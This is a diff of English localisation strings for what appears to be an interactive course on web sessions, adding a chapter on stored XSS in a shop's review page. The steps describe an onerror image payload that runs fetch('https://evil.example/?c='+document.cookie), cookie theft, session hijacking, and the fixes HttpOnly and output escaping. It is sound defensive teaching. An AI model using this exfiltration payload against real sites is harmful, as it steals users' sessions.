@@ -9,6 +9,7 @@ export const courseEn = {
     stateless: 'HTTP without cookies',
     secure: 'Secure: cookies only over https',
     kinds: 'Three things called session',
+    xss: 'XSS by hand',
   },
   steps: {
     'cookie-store': {
@@ -98,6 +99,30 @@ export const courseEn = {
     'kinds-idle': {
       title: 'Idle time ends the login session',
       body: 'The shop now gives the cookie a Max-Age of 30 minutes, renewed with every response, and Mina logs in again. She leaves the tab open and comes back 31 minutes later. The browser session never ended, but the login session did: 30 minutes without a request is the <idle>idle timeout</idle>. The cookie has expired in the jar and the session in the store, so My page answers 401.',
+    },
+    'xss-reviews': {
+      title: 'A page that shows what visitors write',
+      body: 'The shop has reviews now: anyone may write one, and the review page lists them all. A visitor in Firefox writes “Keeps my tea hot for hours!” with the last words in bold markup, and they show in bold: the shop writes what visitors type straight into its HTML, so their markup becomes part of the page. Mina is logged in on Chrome. In this chapter the shop’s session cookie has no HttpOnly.',
+    },
+    'xss-payload': {
+      title: 'A review that is code',
+      body: "Now the visitor writes a review that is not a review: an image whose address (x) does not exist, with an onerror attribute. When the image fails to load, the browser runs onerror: fetch('https://evil.example/?c='+document.cookie) sends whatever document.cookie can see to evil.example. The shop stores it like any review. The visitor’s own browser shows the page first, so evil.example already has one request: that visitor’s own cookie, worth nothing to them. No code runs here: the simulator reads the markup and works out what a browser would do.",
+    },
+    'xss-victim': {
+      title: 'Mina opens the reviews',
+      body: 'Mina opens the review page. The stored markup arrives as part of the shop’s own page, so its script runs as the shop’s: document.cookie shows her session <cookie>cookie</cookie> (it has no HttpOnly), and her browser sends it to evil.example. All she sees is a broken image. This is stored <xss>XSS</xss>.',
+    },
+    'xss-hijack': {
+      title: 'The thief is Mina',
+      body: 'The thief puts the connect.sid from evil.example’s log into Firefox’s cookies and opens My page: 200, Mina’s page, user_id 152. The server sees a valid session ID and nothing else. A stolen cookie is as good as the login: <hijack>session hijacking</hijack>, without ever knowing her password.',
+    },
+    'xss-httponly': {
+      title: 'HttpOnly stops the theft',
+      body: 'The session cookie gets <httponly>HttpOnly</httponly> back (express-session’s cookie.httpOnly, on by default). A session keeps the cookie it was made with, so Mina logs in again and gets a new one. She opens the reviews: the script still runs and still calls evil.example, but document.cookie no longer holds connect.sid. The theft is stopped, the injection is not: the script still runs on Mina’s page.',
+    },
+    'xss-escape': {
+      title: 'Escaping stops the injection',
+      body: 'Now the shop escapes what visitors wrote before putting it into the page (escape-html turns the angle bracket into &lt;). Mina opens the reviews: the payload shows as text, exactly as it was typed, and nothing runs; evil.example hears nothing. Escaping the output fixes the cause; HttpOnly limits the damage when one place is missed. Real shops do both.',
     },
   },
   cookieStore: {
@@ -199,6 +224,54 @@ export const courseEn = {
     newBrowser: 'browser started',
     empty: 'No request yet in this chapter.',
     note: 'Drawn from this chapter’s exchanges, one moment per mark (not to scale). Simplified: one connection per browser (real browsers open up to six per site), closed by the server after Node’s 5-second keep-alive timeout.',
+  },
+  xss: {
+    title: 'Reviews: Tea mug',
+    by: 'by {{name}}',
+    guest: 'a visitor',
+    none: 'No reviews yet.',
+    form: 'Your review',
+    post: 'Post review',
+    errors: {
+      empty: 'Please write something first.',
+      'too-long': 'A review is at most 500 characters.',
+    },
+    brokenImage: 'image that failed to load',
+    tag: '<{{tag}}> (shown by its text only)',
+    reading: 'What a real browser would do with this review',
+    about: 'Nothing here runs: how the simulator reads reviews',
+    readingNote:
+      'Worked out, not run: the simulator reads the markup. It knows <script>, onerror on an image (no image loads here), onload on <svg>, <body> or <iframe>, and autofocus with onfocus; in the code, document.cookie, alert(), and a request with fetch(), an image’s src, location or sendBeacon to an address in quotes. Anything else it reports without guessing.',
+    trigger: {
+      script: 'A <script> runs as the page loads.',
+      'image-fails': 'The <{{tag}}> fails to load, so its {{attr}} runs.',
+      loads: 'The <{{tag}}> loads, so its {{attr}} runs.',
+      autofocus: 'autofocus gives the <{{tag}}> focus, so its {{attr}} runs.',
+    },
+    external: 'It loads code from {{src}}, which the simulator cannot see.',
+    readsCookie: 'It reads document.cookie, which in this browser is:',
+    emptyCookie: '(empty: no cookie scripts may read)',
+    sends: 'It sends a request to:',
+    alerts: 'It opens an alert box (not shown here).',
+    notUnderstood:
+      'It runs, but the simulator does not understand this code, so it shows nothing more.',
+    waits: 'Its {{attr}} on <{{tag}}> waits for someone to click or hover: not run here.',
+    escapedNote: 'Escaped by the shop: the markup arrives as text and nothing in it runs.',
+    source: 'Page source: the reviews as the server wrote them into the HTML',
+    settings: {
+      escape: 'Escape reviews on the page (escape-html)',
+      code: 'The review page’s template',
+    },
+    log: {
+      title: 'evil.example: what its server received',
+      note: 'Requests that browsers showing the review page sent to evil.example. They go to another server, so the wire (the shop’s traffic) does not draw them.',
+      empty: 'Nothing received yet.',
+      from: 'from {{browser}} · {{ip}}',
+      cookies: 'Cookies in the address:',
+      noCookies: 'No cookie in it.',
+      use: 'Use {{name}} in {{browser}}',
+      useHint: 'Open the tab of the browser that should use a cookie, then press its button.',
+    },
   },
   authz: {
     trace: {
